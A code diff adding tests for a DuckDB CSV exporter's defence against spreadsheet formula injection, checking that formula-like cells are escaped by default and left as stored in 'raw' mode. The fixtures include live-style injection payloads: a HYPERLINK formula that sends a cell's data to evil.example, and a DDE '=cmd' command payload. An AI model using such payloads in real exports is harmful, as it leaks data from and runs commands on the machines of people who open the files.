@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import type { Readable } from 'node:stream';
 import { DuckDBInstance } from '@duckdb/node-api';
 import { NotAcceptableError } from '@/core/errors';
+import type { CsvFormulas } from '@/core/result-builtins';
 import { DEFAULT_ENGINE_LIMITS, openDuckdb } from '@/engine/duckdb/duckdb-instance';
 import { exportDuckdbQuery } from '@/engine/duckdb/duckdb-export';
 import * as nativeMemory from '@/engine/duckdb/native-memory';
@@ -78,12 +79,19 @@ describe('exports written by DuckDB into the export space', () => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  const run = async (sql: string, format: CopyFormat, into = space, binds: BoundValue[] = []) => {
+  const run = async (
+    sql: string,
+    format: CopyFormat,
+    into = space,
+    binds: BoundValue[] = [],
+    csvFormulas: CsvFormulas = 'escaped',
+  ) => {
     const connection = await (into === small ? smallInstance : instance).connect();
     const written = await exportDuckdbQuery(connection, sql, binds, into, {
       format,
       select: [],
       name: 't',
+      csvFormulas,
       timeoutMs: 30_000,
     });
     written.done.finally(() => connection.closeSync()).catch(() => undefined);
@@ -114,6 +122,123 @@ describe('exports written by DuckDB into the export space', () => {
     } finally {
       connection.closeSync();
     }
+  });
+
+  describe('CSV that a spreadsheet cannot turn against its reader (x_csv_formulas)', () => {
+    // Cells an attacker would store, each beside a negative number in every numeric kind.
+    const source = `SELECT * FROM (VALUES
+      ('=HYPERLINK("http://evil.example/?d="&A2,"Open")', -5, -2.50::DECIMAL(4, 2), -0.5::DOUBLE, DATE '2024-03-01', TIMESTAMP '2024-03-01 10:00:00', ['=1', 'b'], 1),
+      ('+1+1', -1, -0.01::DECIMAL(4, 2), -1e10::DOUBLE, NULL, NULL, NULL, 2),
+      ('-2+3', NULL, NULL, NULL, NULL, NULL, NULL, 3),
+      ('@SUM(A1)', 0, 0, 0, NULL, NULL, NULL, 4),
+      (chr(9) || '=1', 1, 1, 1, NULL, NULL, NULL, 5),
+      (chr(13) || '=1', 1, 1, 1, NULL, NULL, NULL, 6),
+      ('  =1+1', 1, 1, 1, NULL, NULL, NULL, 7),
+      (chr(10) || '-1', 1, 1, 1, NULL, NULL, NULL, 8),
+      ('Acme;=cmd|'' /C calc''!A0', 1, 1, 1, NULL, NULL, NULL, 9),
+      ('say "=1"', 1, 1, 1, NULL, NULL, NULL, 10),
+      ('a=1', 1, 1, 1, NULL, NULL, NULL, 11),
+      ('', 1, 1, 1, NULL, NULL, NULL, 12),
+      (NULL, 1, 1, 1, NULL, NULL, NULL, 13),
+      ('-5', 1, 1, 1, NULL, NULL, NULL, 14)
+    ) AS v("a,b", i, d, f, day, ts, list, n) ORDER BY n`;
+    const stored = [
+      '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '  =1+1',
+      '\n-1',
+      "Acme;=cmd|' /C calc'!A0",
+      'say "=1"',
+      'a=1',
+      '',
+      null,
+      '-5',
+    ];
+
+    /** The cells of a CSV as DuckDB's reader reads them back, every column as text. */
+    const readBack = async (csv: string): Promise<unknown[][]> => {
+      const file = join(dir, `${Math.random().toString(36).slice(2)}.csv`);
+      writeFileSync(file, csv);
+      const reader = await DuckDBInstance.create(':memory:');
+      const connection = await reader.connect();
+      try {
+        const result = await connection.runAndReadAll(
+          `SELECT * FROM read_csv('${file}', header = true, all_varchar = true, quote = '"', escape = '"', delim = ',', allow_quoted_nulls = false, new_line = '\\r\\n')`,
+        );
+        return result.getRowsJS();
+      } finally {
+        connection.closeSync();
+        reader.closeSync();
+        rmSync(file);
+      }
+    };
+
+    it('escaped (the default): text quoted, a formula behind a quote mark; numbers, dates and the header as they are', async () => {
+      const written = await run(source, 'csv');
+      const csv = (await bytesOf(written.stream)).toString();
+      const lines = csv.split('\r\n');
+      // The header keeps RFC 4180's minimal quoting, not FORCE_QUOTE's.
+      expect(lines[0]).toBe('"a,b",i,d,f,day,ts,list,n');
+      expect(lines[1]).toBe(
+        '"\'=HYPERLINK(""http://evil.example/?d=""&A2,""Open"")",-5,-2.50,-0.5,2024-03-01,2024-03-01T10:00:00,"[\'=1\', b]",1',
+      );
+      expect(lines[2]).toBe('"\'+1+1",-1,-0.01,-10000000000.0,,,,2');
+      // A `;` cannot start a cell in a spreadsheet whose separator it is: the whole cell is quoted.
+      expect(lines[9]).toBe('"Acme;=cmd|\' /C calc\'!A0",1,1.00,1.0,,,,9');
+      expect(await written.done).toBe(14);
+      const rows = await readBack(csv);
+      // Negative numbers of every numeric kind are numbers: no quote mark, no quotes.
+      expect(rows.slice(0, 2).map((row) => row.slice(1, 4))).toEqual([
+        ['-5', '-2.50', '-0.5'],
+        ['-1', '-0.01', '-10000000000.0'],
+      ]);
+      expect(lines[1]).toContain(',-5,-2.50,-0.5,');
+      const cells = rows.map((row) => row[0]);
+      expect(cells).toEqual([
+        '\'=HYPERLINK("http://evil.example/?d="&A2,"Open")',
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\t=1",
+        "'\r=1",
+        "'  =1+1",
+        "'\n-1",
+        "Acme;=cmd|' /C calc'!A0",
+        'say "=1"',
+        'a=1',
+        '',
+        null,
+        // A text column's "-5" is text: a spreadsheet would read it as a number, or -5+1 as a formula.
+        "'-5",
+      ]);
+      // No cell a spreadsheet would run: none begins with a trigger, blanks before it or not.
+      expect(
+        cells.filter((cell) => typeof cell === 'string' && /^[ \n]*[-=+@\t\r]/.test(cell)),
+      ).toEqual([]);
+    });
+
+    it('raw: the values as stored, DuckDB quoting only where RFC 4180 needs it', async () => {
+      const written = await run(source, 'csv', space, [], 'raw');
+      const csv = (await bytesOf(written.stream)).toString();
+      expect(csv.split('\r\n').slice(0, 3)).toEqual([
+        '"a,b",i,d,f,day,ts,list,n',
+        '"=HYPERLINK(""http://evil.example/?d=""&A2,""Open"")",-5,-2.50,-0.5,2024-03-01,2024-03-01T10:00:00,"[\'=1\', b]",1',
+        '+1+1,-1,-0.01,-10000000000.0,,,,2',
+      ]);
+      expect((await readBack(csv)).map((row) => row[0])).toEqual(stored);
+    });
+
+    it('escaped: a result without rows is its header; one without text columns is as raw', async () => {
+      const none = await run("SELECT 'x' AS s, 1 AS n WHERE false", 'csv');
+      expect((await bytesOf(none.stream)).toString()).toBe('s,n\r\n');
+      const numbers = await run('SELECT n, -n AS m FROM t WHERE n < 2', 'csv');
+      expect((await bytesOf(numbers.stream)).toString()).toBe('n,m\r\n0,0\r\n1,-1\r\n');
+      expect(readdirSync(space.dir)).toEqual([]);
+    });
   });
 
   it('stops a COPY that would pass the space, and leaves nothing behind', async () => {
